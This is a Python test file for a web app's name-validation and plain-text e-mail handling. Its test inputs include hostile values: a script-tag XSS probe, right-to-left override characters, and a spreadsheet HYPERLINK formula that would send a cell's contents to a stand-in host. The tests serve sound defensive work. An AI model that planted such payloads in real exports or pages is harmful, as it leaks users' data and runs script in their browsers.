"""Names people set for themselves (PATCH /api/v1/me/) are checked, and e-mails carry them as
plain text."""

from __future__ import annotations

import pytest
from django.core import mail

from apps.accounts.models import User
from apps.notifications.channels import email
from apps.notifications.tests.factories import NotificationFactory

FORMULA = '=HYPERLINK("https://x.example/?"&A2,"Report")'


@pytest.mark.parametrize("persona", ["student", "parent"])
@pytest.mark.parametrize(
    ("name", "code_word"),
    [
        ("Sam\nStudent", "control"),
        ("Sam\tStudent", "control"),
        ("Sam\x00Student", "control"),
        ("Sam\u202eStudent", "control"),  # right-to-left override: reverses what follows
        ("Sam\u200bStudent", "control"),  # zero-width space
        ("<script>alert(1)</script>", "<"),
        ("Sam <b>Student</b>", "<"),
        ("x" * 151, "150"),
        ("   ", "blank"),
        ("12345 !!", "letter"),
    ],
)
def test_a_self_edited_name_is_checked(cast, api, persona, name, code_word):
    user = cast.user(persona)
    before = user.full_name
    response = api(user).patch("/api/v1/me/", {"full_name": name}, format="json")
    assert response.status_code == 400, response.content
    body = response.json()["error"]
    assert list(body["fields"]) == ["full_name"]
    message = " ".join(body["fields"]["full_name"])
    assert code_word in message.lower() or code_word in message, message
    user.refresh_from_db()
    assert user.full_name == before


@pytest.mark.parametrize(
    "name",
    [
        "Ana O'Brien-Smith",
        "सैम कुमार",
        "ಕೃಷ್ಣ\u200dಪ್ಪ",  # Kannada with a zero-width joiner
        "José  Núñez, Jr.",
        FORMULA,  # harmless as a name; every CSV export neutralises it
        "x" * 150,
    ],
)
def test_ordinary_names_are_kept_as_typed(cast, api, name):
    response = api(cast.parent).patch("/api/v1/me/", {"full_name": f"  {name} "}, format="json")
    assert response.status_code == 200, response.content
    assert response.json()["full_name"] == name
    assert User.objects.get(pk=cast.parent.pk).full_name == name


def test_admins_creating_people_get_the_same_checks(cast, api):
    client = api(cast.admin)
    response = client.post(
        "/api/v1/students/",
        {"email": "n@alice.test", "full_name": "New\r\nKid", "admission_number": "N-1"},
        format="json",
    )
    assert response.status_code == 400 and "full_name" in response.json()["error"]["fields"]
    response = client.patch(
        f"/api/v1/users/{cast.parent.pk}/", {"full_name": "<i>Pat</i>"}, format="json"
    )
    assert response.status_code == 400 and "full_name" in response.json()["error"]["fields"]


def test_emails_carry_names_as_plain_text(cast, api, django_capture_on_commit_callbacks):
    name = 'Ana O\'Brien & "Co"'
    response = api(cast.parent).patch("/api/v1/me/", {"full_name": name}, format="json")
    assert response.status_code == 200
    with django_capture_on_commit_callbacks(execute=True):
        api(None).post("/api/v1/auth/password/reset/", {"email": "pat@alice.test"}, format="json")
    (message,) = mail.outbox
    assert message.content_subtype == "plain"
    assert not getattr(message, "alternatives", [])  # no HTML part to inject into
    assert message.body.startswith(f"Hello {name},")
    assert "&amp;" not in message.body and "&#x27;" not in message.body


def test_name_errors_in_hindi(cast, api):
    response = api(cast.student.user).patch(
        "/api/v1/me/", {"full_name": "<b>Sam</b>"}, format="json", HTTP_ACCEPT_LANGUAGE="hi"
    )
    assert response.status_code == 400
    assert response.json()["error"]["fields"]["full_name"] == ["नाम में < या > नहीं हो सकते।"]


def test_notification_emails_carry_names_as_plain_text(cast):
    cast.parent.full_name = 'Ana O\'Brien & "Co"'
    cast.parent.save()
    notice = NotificationFactory(
        recipient=cast.parent, title="Sam <Student> & co. was absent", body="See <a>x</a>"
    )
    subject, body = email.render(notice)
    assert body.startswith('Hello Ana O\'Brien & "Co",')
    assert "Sam <Student> & co. was absent" in subject and "See <a>x</a>" in body
    assert "&amp;" not in body + subject and "&lt;" not in body + subject
